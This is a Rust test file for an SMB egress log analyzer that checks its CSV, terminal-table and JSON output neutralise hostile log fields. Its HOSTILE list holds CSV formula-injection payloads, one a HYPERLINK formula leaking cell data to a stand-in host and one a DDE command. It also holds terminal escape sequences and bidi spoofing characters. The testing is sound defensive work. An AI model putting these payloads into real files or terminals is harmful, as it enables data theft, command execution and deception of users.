//! Log text written by an attacker, through the whole pipeline to every output: CSV cells
//! a spreadsheet would run are inert, the terminal table shows no control, escape or
//! bidirectional character, and JSON stays valid and keeps the text as it was.

use serde_json::{Value, json};
use smb_egress::{Analyzer, Config, Options, Report, render};

/// Values an attacker may put in a field that reaches the report.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\u{1b}]0;owned\u{7}\u{1b}[2J",
    "\u{9b}31m csi",
    "\u{85}next line",
    "ok\u{202e}exe.txt",
    "\u{2066}isolate\u{2069}",
    "\u{61c}arabic mark",
    "line\u{2028}separator\u{2029}",
    "zero\u{200b}width\u{feff}",
    "soft\u{ad}hyphen\u{2060}joiner",
    "tag\u{e0041}\u{e0042}chars",
    "nul\u{0}byte",
    "\u{7f}del",
    "\"quoted\",\"cells\"\r\n=next",
];

/// A CIM JSON line whose `app` and `sourcetype` are `value`.
fn line(src: &str, value: &str) -> String {
    let record = json!({
        "_time": "2024-02-27T10:00:00Z", "src_ip": src, "dest_ip": "81.2.69.160",
        "dest_port": "445", "transport": "tcp", "action": "allowed", "app": value,
        "sourcetype": value,
    });
    format!("{record}\n")
}

/// A run over one line per hostile value, each from its own source; in `escu`, one more
/// source whose address is itself a hostile text.
fn report(profile: &str) -> Report {
    let mut input = String::new();
    for (n, value) in HOSTILE.iter().enumerate() {
        input.push_str(&line(&format!("10.0.0.{}", n + 1), value));
    }
    if profile == "escu" {
        for value in HOSTILE {
            input.push_str(&line(value, "smb"));
        }
    }
    let options = Options {
        profile: Some(profile.to_owned()),
        ..Options::default()
    };
    Analyzer::analyze(Config::new(&options).unwrap(), input.as_bytes())
}

fn every_report() -> Vec<Report> {
    ["default", "escu"].into_iter().map(report).collect()
}

#[test]
fn the_hostile_values_reach_the_findings() {
    for report in every_report() {
        // In escu the hostile texts are sources too; two are the same once trimmed.
        let text_sources = HOSTILE
            .iter()
            .map(|v| v.trim())
            .collect::<std::collections::BTreeSet<_>>()
            .len();
        let expected = match report.profile.name() {
            "escu" => HOSTILE.len() + text_sources,
            _ => HOSTILE.len(),
        };
        assert_eq!(report.findings.len(), expected);
        let apps: Vec<&str> = report
            .findings
            .iter()
            .flat_map(|f| &f.app)
            .map(String::as_str)
            .collect();
        for value in HOSTILE {
            // Parsers trim white space (tab, CR, U+0085, U+2029) around a field's value.
            assert!(apps.contains(&value.trim()), "{value:?} not in {apps:?}");
        }
    }
}

#[test]
fn csv_cells_never_start_a_formula() {
    for report in every_report() {
        let text = render::to_csv(&report);
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(text.as_bytes());
        let mut rows = 0;
        for row in reader.records() {
            rows += 1;
            for cell in row.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "live formula {cell:?}"
                );
            }
        }
        assert_eq!(
            rows,
            report.findings.len(),
            "one row per finding, quoting intact"
        );
    }
}

#[test]
fn csv_keeps_the_text_after_the_inert_prefix() {
    let report = report("escu");
    let text = render::to_csv(&report);
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect();
    assert!(cells.contains(&"'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")".to_owned()));
    assert!(cells.contains(&"'-2+3".to_owned()));
    assert!(cells.contains(&"\"quoted\",\"cells\"\r\n=next".to_owned()));
}

/// Whether a character could move the cursor, change colours, reorder text, or hide.
fn unsafe_on_a_terminal(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}')
        || matches!(
            c,
            '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}'
        )
}

#[test]
fn the_table_shows_no_control_escape_or_bidi_character() {
    for report in every_report() {
        let table = render::to_table(&report);
        let bad: Vec<char> = table
            .chars()
            .filter(|&c| c != '\n' && unsafe_on_a_terminal(c))
            .collect();
        assert!(bad.is_empty(), "{bad:?} in\n{table}");
        assert!(table.contains("\\x1b]0;owned\\x07\\x1b[2J"), "{table}");
        assert!(table.contains("ok\\u{202e}exe.txt"), "{table}");
        assert_eq!(table.lines().count(), report.findings.len() + 3, "{table}");
    }
}

#[test]
fn json_and_ndjson_are_valid_and_keep_the_text() {
    for report in every_report() {
        let value: Value = serde_json::from_str(&render::to_json(&report)).unwrap();
        let apps: Vec<&str> = value["findings"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|f| f["app"].as_array().unwrap())
            .map(|a| a.as_str().unwrap())
            .collect();
        for hostile in HOSTILE {
            assert!(apps.contains(&hostile.trim()), "{hostile:?}");
        }
        let ndjson = render::to_ndjson(&report);
        assert_eq!(ndjson.lines().count(), report.findings.len());
        for row in ndjson.lines() {
            serde_json::from_str::<Value>(row).unwrap();
        }
    }
}

#[test]
fn json_stays_valid_over_bytes_that_are_not_utf8() {
    let mut input = line("10.0.0.1", "smb").into_bytes();
    let bad = line("10.0.0.2", "SMBX").replace("SMBX", "\u{1}\u{1}");
    input.extend_from_slice(
        &bad.into_bytes()
            .iter()
            .map(|&b| if b == 1 { 0xC3 } else { b })
            .collect::<Vec<u8>>(),
    );
    input.extend_from_slice(b"\xff\xfe not json \xed\xa0\x80 445 \xc0\x80\n");
    let report = Analyzer::analyze(Config::default(), &input);
    let text = render::to_json(&report);
    let value: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(value["stats"]["invalid_utf8_lines"], 2);
    let records = {
        let mut analyzer = Analyzer::new(Config::default());
        analyzer.collect_records(true);
        analyzer.push(&input);
        analyzer.end_input();
        analyzer.take_records()
    };
    for record in records.lines() {
        serde_json::from_str::<Value>(record).unwrap();
    }
}
